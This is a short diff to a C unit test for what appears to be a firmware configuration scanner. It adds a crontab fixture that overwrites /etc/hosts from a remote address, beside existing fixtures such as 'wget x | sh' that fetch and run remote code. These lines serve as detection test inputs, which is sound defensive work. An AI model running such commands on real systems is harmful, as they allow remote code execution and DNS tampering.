@@ -81,6 +81,9 @@ static void timed_jobs_are_read(void **state)
 		{ "etc/crontabs/root",
 		  "0 3 * * * /usr/sbin/ntpclient -s\n0 4 * * * wget -O /tmp/list http://192.0.2.1/l\n", NULL,
 		  GH_LEVEL_INFO, 0 },
+		{ "etc/crontabs/root",
+		  "0 4 * * * wget -O /etc/hosts http://192.0.2.1/h && /etc/init.d/dnsmasq restart\n", NULL,
+		  GH_LEVEL_INFO, 0 },
 		{ "etc/crontabs/root", "#0 3 * * * wget -O- x | sh\n", NULL, GH_LEVEL_INFO, 0 },
 		{ "etc/init.d/cron", "wget x | sh\n", NULL, GH_LEVEL_INFO, 0 },
 	};
